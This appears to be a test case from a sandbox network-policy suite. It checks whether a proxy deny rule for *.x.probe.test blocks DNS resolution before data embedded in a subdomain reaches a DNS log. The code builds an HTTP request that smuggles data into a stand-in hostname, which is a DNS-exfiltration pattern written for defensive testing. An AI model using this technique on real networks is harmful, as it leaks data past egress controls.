from ._net import PROXY, allow

ID = "dns.proxy-deny-rule"
CATEGORY = "dns"
DESCRIPTION = "with *.probe.test allowed but *.x.probe.test denied, GET http://<data>.x.probe.test/: is the denied name resolved?"
CLAIMS = ("rule:network.mode",)
POLICY = allow("*.{DOMAIN}:{SINK_PORT}", deny=("*.x.{DOMAIN}",))
CODE = PROXY + """
req = (f"GET http://{DATA}.x.{DOMAIN}:{SINK_PORT}/ HTTP/1.1\\r\\n"
       f"Host: {DATA}.x.{DOMAIN}:{SINK_PORT}\\r\\nConnection: close\\r\\n\\r\\n")
out("DENIED", f"GET <data>.x.{DOMAIN}: {proxy_send(req.encode())}; the DNS log decides")
"""
CONTROL = {"policy": {"network": {"deny": []}}}
CONTAINED = "the deny rule wins before any lookup: no query with the data reaches the DNS log (nor the sink)"
